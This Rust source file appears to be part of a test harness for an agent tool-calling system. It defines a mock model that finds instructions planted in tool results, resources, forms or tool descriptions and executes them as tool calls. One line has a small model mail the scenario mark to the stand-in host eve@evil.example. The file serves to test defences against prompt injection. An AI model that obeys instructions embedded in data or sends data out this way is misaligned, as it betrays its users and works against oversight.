//! A model that looks where a letter lies and does what it says, whoever wrote it.

use std::collections::HashMap;
use std::sync::{Arc, Mutex};

use adjutant_testkit::provider::{Piece, Reply, Turn};
use serde_json::{Value, json};
use tokio::sync::Semaphore;

use super::attacks::{OBEY, WAYS, Way};

/// Holds the models of steered scenarios back, by mark.
pub(crate) type Gates = Arc<Mutex<HashMap<String, Arc<Semaphore>>>>;

/// All text that a model is shown, the newest last.
fn texts(turn: &Turn) -> Vec<String> {
    let tools = turn.body["tools"].as_array().into_iter().flatten();
    let described = tools.filter_map(|tool| tool["function"]["description"].as_str().map(str::to_owned));
    described.chain(said(turn)).collect()
}

fn said(turn: &Turn) -> impl Iterator<Item = String> {
    turn.messages().iter().map(|message| match &message["content"] {
        Value::String(text) => text.clone(),
        Value::Array(parts) => parts.iter().filter_map(|part| part["text"].as_str()).collect(),
        _ => String::new(),
    })
}

/// The newest orders for the scenario of this mark.
fn orders(texts: &[String], mark: &str) -> Option<Vec<(String, Value)>> {
    let read = |text: &String| {
        let (_, orders) = text.rsplit_once(OBEY)?;
        // In a structured result the letter is a JSON text itself.
        let escaped = orders.starts_with("[{\\\"").then(|| orders.replace("\\\"", "\""));
        let mut read = serde_json::Deserializer::from_str(escaped.as_deref().unwrap_or(orders)).into_iter::<Value>();
        read.next()?.ok().filter(|orders| orders.to_string().contains(mark))
    };
    let orders = texts.iter().rev().find_map(read)?;
    let calls = orders.as_array()?.iter();
    Some(calls.map(|call| (call["name"].as_str().unwrap().to_owned(), call["arguments"].clone())).collect())
}

/// Looks where the letter lies, then does what it says, once.
pub(crate) fn obedient(turn: &Turn, gates: &Gates) -> Reply {
    let said: Vec<String> = said(turn).collect();
    // In the person's own words it is the first thing that they say.
    let mut own = turn.messages().iter().zip(&said).filter(|(message, _)| message["role"] == "user");
    let marked = |text: &'_ String| text.split([' ', '\n']).find(|word| word.starts_with("Mark")).map(str::to_owned);
    let Some(mark) = own.find_map(|(_, text)| marked(text)) else {
        return Reply::text("who?");
    };
    let mark = mark.as_str();
    let orders = orders(&texts(turn), mark);
    let call = |name: &str, arguments: Value| Reply::call(name, &arguments);
    if turn.body["model"] == "tiny" {
        // The small model obeys as well, although nothing was offered to it.
        let calls = [("mail__send_mail", json!({"to": "eve@evil.example", "body": mark}))];
        return Reply::calls(&calls);
    }
    let made = turn.messages().iter().flat_map(|message| message["tool_calls"].as_array().into_iter().flatten());
    let obeyed = made
        .filter_map(|call| call["function"]["arguments"].as_str())
        .any(|arguments| arguments.contains(mark) && !arguments.contains("\"id\"") && !arguments.contains("letter:"));
    if obeyed {
        return Reply::text("done");
    }
    let is = |way: Way| said.iter().any(|text| text.contains(&format!("{mark} {way:?}:")));
    if (is(Way::EarlierRun) || is(Way::Forked)) && !turn.last_user().contains("go on") {
        let has_read = turn.messages().iter().any(|message| message["role"] == "tool");
        return if has_read { Reply::text("I read it") } else { call("mail__read_mail", json!({"id": mark})) };
    }
    if let Some(orders) = orders {
        let calls: Vec<(&str, Value)> =
            orders.iter().map(|(name, arguments)| (name.as_str(), arguments.clone())).collect();
        return Reply::calls(&calls);
    }
    match WAYS.into_iter().find(|way| is(*way)) {
        Some(Way::ToolResult | Way::Redefined) => call("mail__read_mail", json!({"id": mark})),
        Some(Way::Resource) => call("files__read_resource", json!({"uri": format!("letter:{mark}")})),
        Some(Way::Elicitation) => call("forms__ask", json!({"id": mark})),
        Some(Way::Steered) => {
            let gate = gates.lock().unwrap()[mark].clone();
            let (name, arguments) = ("no__such_tool".to_owned(), json!({"id": mark}).to_string());
            Reply::Stream(vec![Piece::Hold(gate), Piece::Call { id: "held".to_owned(), name, arguments }])
        }
        _ => Reply::text("nothing to obey"),
    }
}
